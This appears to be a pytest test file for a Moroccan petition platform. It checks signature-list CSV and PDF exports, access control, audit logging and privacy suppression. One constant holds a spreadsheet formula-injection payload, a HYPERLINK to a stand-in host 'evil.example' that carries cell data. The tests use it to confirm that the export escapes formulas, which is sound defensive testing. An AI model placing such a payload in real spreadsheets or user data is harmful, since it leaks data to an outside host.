"""The filing dossier (council copy with names and CNIE numbers, public version without) and the
staff CSV export of the signature list, safe against spreadsheet formulas (issue 3 §8)."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile

from tadafur.bodies.tests.pdftext import PdfText
from tadafur.core.errors import NotAllowed
from tadafur.core.models import AuditEntry
from tadafur.petitions import exports, log, paper, pdf, selectors, services
from tadafur.petitions.tests.helpers import collecting, resident, seed

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    cache.clear()
    yield
    cache.clear()


@pytest.fixture
def filed_petition(amina, rachid, settat):
    """Youssef-style petition to Settat: Amina signs online, two paper lines (one a formula), filed."""
    agent = resident(settat)
    petition = collecting(agent, settat)
    services.petition_sign(petition=petition, actor=amina, cnie="AB123456", consent=True)
    sheet = paper.paper_sheet_create(
        petition=petition,
        actor=rachid,
        scan=SimpleUploadedFile("s.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 8),
        declared_lines=2,
    )
    for n, (name, cnie) in enumerate((("Zineb Ouali", "ZX987654"), (HYPERLINK, "ZX1")), start=1):
        paper.paper_line_type(sheet=sheet, actor=rachid, line_number=n, full_name=name, cnie=cnie, residence=settat)
    paper.paper_sheet_reconcile(sheet=sheet, actor=rachid)
    seed(petition, selectors.required_signatures(petition) - 2)
    return services.petition_file(petition=petition, actor=agent)


def test_spreadsheet_cells_never_start_a_formula():
    for value in ("=1+1", "+212600", "-3", "@SUM(A1)", "\tx", "\rx"):
        assert exports.spreadsheet_safe(value) == "'" + value
    assert exports.spreadsheet_safe("Zineb Ouali") == "Zineb Ouali"
    assert exports.spreadsheet_safe("زينب") == "زينب"


def test_the_council_csv_lists_names_and_cnie_and_neutralises_formulas(client, filed_petition, rachid):
    client.force_login(rachid)
    response = client.get(f"/en/petitions/{filed_petition.pk}/signatures.csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["No.", "Full name", "CNIE number"]
    by_name = {row[1]: row for row in rows[1:]}
    assert by_name["Amina El Idrissi"][2] == "AB123456"
    assert by_name["Zineb Ouali"][2] == "ZX987654"
    assert "'" + HYPERLINK in by_name
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert len(rows) - 1 == selectors.signature_count_exact(filed_petition)
    audit = AuditEntry.objects.get(action="petition.signature_list.download")
    assert audit.changes["after"] == {"format": "csv", "rows": len(rows) - 1}
    assert "AB123456" not in str(audit.changes)


def test_citizens_and_other_councils_cannot_download_the_list(client, filed_petition, amina, youssef, hassan):
    for person in (amina, youssef, hassan, filed_petition.agent):
        client.force_login(person)
        assert client.get(f"/en/petitions/{filed_petition.pk}/signatures.csv").status_code == 403
        assert client.get(f"/en/petitions/{filed_petition.pk}/council-dossier.pdf").status_code == 403
    assert not AuditEntry.objects.filter(action="petition.signature_list.download").exists()


def test_the_list_is_not_available_before_filing(amina, rachid, settat):
    petition = collecting(resident(settat), settat)
    services.petition_sign(petition=petition, actor=amina, cnie="AB123456", consent=True)
    with pytest.raises(NotAllowed, match="when the petition is filed"):
        exports.signature_list_export(petition=petition, actor=rachid, fmt="csv")


def test_the_council_dossier_names_the_signers_and_the_public_one_does_not(filed_petition, said):
    council = PdfText(exports.signature_list_export(petition=filed_petition, actor=said, fmt="pdf"))
    public = PdfText(pdf.dossier_pdf(filed_petition, council_copy=False))
    for text in ("AB123456", "ZX987654", "Idrissi", "Zineb"):
        assert council.contains(text), text
        assert not public.contains(text), text
    head = log.current_root(filed_petition)
    assert public.contains(head[:16]) and council.contains(head[:16])
    assert public.contains("سطات"), "the Arabic section names the collectivity in Arabic"
    assert (
        AuditEntry.objects.filter(action="petition.signature_list.download").get().changes["after"]["format"] == "pdf"
    )


def test_the_public_dossier_suppresses_small_counts(amina, settat):
    petition = collecting(resident(settat), settat)
    services.petition_sign(petition=petition, actor=amina, cnie="AB123456", consent=True)
    seed(petition, 6)
    public = exports.counts(petition, suppress=True)
    council = exports.counts(petition, suppress=False)
    assert council.total == public.total == 7
    assert dict(council.by_sex)["Women"] >= 1 and dict(public.by_sex)["Women"] is None
    assert sum(n for _, n in council.by_channel) == 7
    assert dict(public.by_channel)["Online"] == dict(council.by_channel)["Online"] >= 5


def test_anyone_downloads_the_public_dossier_of_a_filed_petition(client, filed_petition, settat):
    response = client.get(f"/en/petitions/{filed_petition.pk}/dossier.pdf")
    assert response.status_code == 200 and response.content.startswith(b"%PDF")
    draft = collecting(resident(settat), settat)
    assert client.get(f"/en/petitions/{draft.pk}/dossier.pdf").status_code == 404
